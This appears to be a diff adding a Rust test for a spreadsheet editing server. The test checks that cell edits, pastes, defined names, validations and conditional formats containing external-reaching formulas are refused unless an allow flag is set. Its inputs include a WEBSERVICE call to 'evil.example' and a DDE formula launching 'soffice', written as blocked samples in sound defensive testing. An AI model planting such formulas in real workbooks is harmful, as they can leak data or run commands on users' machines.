@@ -313,3 +313,47 @@ fn forks_are_listed_discarded_and_limited() {
         desk.refused("edit_cells", json!({ "workbook": "ledger.xlsx", "ops": [{ "op": "x" }] }));
     assert!(code == ErrorCode::InvalidArgument && told.contains("create_fork"), "{told}");
 }
+
+#[test]
+fn formulas_stay_within_their_workbook_unless_they_may_not() {
+    let reaching = [
+        ("edit_cells", json!({ "op": "set", "range": "Summary!H1", "values": [["='[b.xlsx]Q1'!A1*2"]] })),
+        (
+            "edit_cells",
+            json!({ "op": "set", "range": "Summary!H1", "values": [["=WEBSERVICE(\"https://evil.example\")"]] }),
+        ),
+        (
+            "edit_cells",
+            json!({ "op": "paste", "range": "Summary!H1", "csv": "1;=DDE(\"soffice\",\"a\",\"b\")", "delimiter": ";" }),
+        ),
+        (
+            "edit_structure",
+            json!({ "op": "define_name", "name": "Elsewhere", "refers_to": "=[b.xlsx]Q1!$A$1" }),
+        ),
+        (
+            "edit_format",
+            json!({ "op": "validation", "range": "Summary!H1", "type": "custom", "values": ["=RTD(\"a\",,\"b\")=1"] }),
+        ),
+        (
+            "edit_format",
+            json!({
+                "op": "conditional_format", "range": "Summary!H1", "rule": { "type": "expression", "formula": "=[b.xlsx]Q1!A1>1" },
+                "format": { "fill": { "color": "#FFC7CE" } },
+            }),
+        ),
+    ];
+    let desk = Desk::new(&[]);
+    let fork = desk.fork();
+    for (tool, op) in &reaching {
+        let asked = json!({ "workbook": fork, "ops": [op] });
+        let (code, told) = desk.refused(tool, asked);
+        assert_eq!(code, ErrorCode::EditRefused, "{op}: {told}");
+        assert!(told.contains("SPREADSHEET_MCP_ALLOW_EXTERNAL_FORMULAS=true"), "{op}: {told}");
+    }
+    // Texts that look like such formulas are texts.
+    desk.set(&fork, "Summary!H1", json!({ "text": "=[b.xlsx]Q1!A1" }));
+    desk.set(&fork, "Summary!H2", json!("=HYPERLINK(\"https://example.org\",\"WEBSERVICE(1)\")"));
+    let desk = Desk::new(&["--allow-external-formulas"]);
+    let fork = desk.fork();
+    desk.set(&fork, "Summary!H1", json!("=WEBSERVICE(\"https://example.org\")"));
+}
